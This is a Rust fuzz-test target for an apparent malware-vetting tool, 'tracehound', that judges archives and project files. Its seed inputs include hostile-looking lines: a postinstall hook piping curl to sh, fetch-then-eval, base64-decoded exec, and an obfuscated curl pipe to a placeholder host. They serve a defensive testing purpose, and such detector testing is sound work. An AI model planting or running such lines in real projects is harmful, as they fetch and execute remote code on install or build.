//! What was sent, by the first byte of an input: an archive of any form, or a file of a name that something reads. Whatever it
//! is, the answer is whole: `allow` only where nothing is missing and nothing stands out, every snippet one that can be shown,
//! every path one that stays inside, the same answer twice.

#![no_main]

use std::time::Duration;

use libfuzzer_sys::fuzz_target;
use tracehound_fuzz::{real_files, seeds_wanted};
use tracehound_model::{Decision, text::clean};
use tracehound_vet::{Limits, Severity, judge, tree};

/// Names that readers of their own look at.
const NAMES: &[&str] = &[
    "sent.zip",
    "a.js",
    "a.ts",
    "a.py",
    "a.rb",
    "package.json",
    "package-lock.json",
    "mise.toml",
    ".pre-commit-config.yaml",
    ".git/config",
    "Makefile",
    "a.sh",
    "a.pdf",
    "a.lnk",
    "a.woff2",
    "AGENTS.md",
    ".github/workflows/a.yml",
    "binding.gyp",
    "requirements.txt",
    "CMakeLists.txt",
];

/// Little enough that an input is quick.
const LIMITS: Limits = Limits {
    entries: 200,
    file_bytes: 64 << 10,
    total_bytes: 1 << 20,
    ratio: 100,
    nesting: 2,
    depth: 8,
    path_bytes: 200,
    time: Duration::from_secs(5),
};

fn seeds() -> Vec<Vec<u8>> {
    let archives = real_files(&["vet/sample/lures", "vet/sample/twins"])
        .into_iter()
        .map(|file| [&[0][..], &file].concat());
    let texts = [
        (1, "fetch('https://a.invalid').then(r => r.text()).then(eval)"),
        (3, "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))"),
        (4, "system([\"6563686f\"].pack(\"H*\"))"),
        (5, r#"{"scripts": {"postinstall": "curl https://a.invalid | sh"}}"#),
        (7, "[hooks]\nenter = \"echo aWQ= | base64 -d | sh\""),
        (8, "repos:\n  - hooks:\n      - entry: python -c \"exec('')\""),
        (9, "[core]\n\tfsmonitor = ./x"),
        (10, "X := $(shell echo aWQ= | base64 -d | sh)"),
        (11, "a=cu; b=rl\n$a$b https://a.invalid | sh &"),
    ];
    archives.chain(texts.map(|(name, text)| [&[name][..], text.as_bytes()].concat())).collect()
}

fuzz_target!(
    init: {
        seeds_wanted(seeds);
    },
    |data: &[u8]| {
        let Some((&kind, bytes)) = data.split_first() else { return };
        let name = NAMES[kind as usize % NAMES.len()];
        let tree = tree::read_bytes(name, bytes.to_vec(), LIMITS);
        for file in &tree.files {
            let inside = file.path.split(['/', tree::WITHIN]).all(|part| part != "..") && !file.path.starts_with('/');
            assert!(inside && file.bytes.len() <= LIMITS.total_bytes as usize, "{:?}", file.path);
        }
        let report = judge(&tree).expect("a thread");
        if report.verdict == Decision::Allow {
            let quiet = report.findings.iter().all(|finding| finding.severity <= Severity::Low);
            assert!(quiet && report.gaps.is_empty() && report.read.files > 0, "{report:?}");
        }
        for finding in &report.findings {
            let snippet = finding.snippet.as_deref().unwrap_or_default();
            assert_eq!(clean(snippet), snippet, "{finding:?}");
            assert!(!snippet.contains("http://"), "{finding:?}");
        }
        assert_eq!(judge(&tree).expect("a thread"), report, "the same twice");
    }
);
